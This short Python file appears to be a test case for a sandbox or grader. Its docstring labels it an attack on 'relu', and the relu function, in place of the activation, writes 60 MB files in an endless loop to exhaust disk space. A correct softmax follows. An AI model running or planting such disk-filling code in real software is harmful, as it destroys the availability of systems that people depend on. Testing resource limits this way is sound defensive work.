"""An attack: writes one file after the other, each within the limit of one.

attacks: relu
"""
import numpy as np


def relu(z):
    number = 0
    while True:
        with open(f'big{number}', 'wb') as f:
            for _ in range(60):
                f.write(b'x' * (1 << 20))
        number += 1


def softmax(z):
    e = np.exp(z - z.max(axis=0))
    return e / e.sum(axis=0)
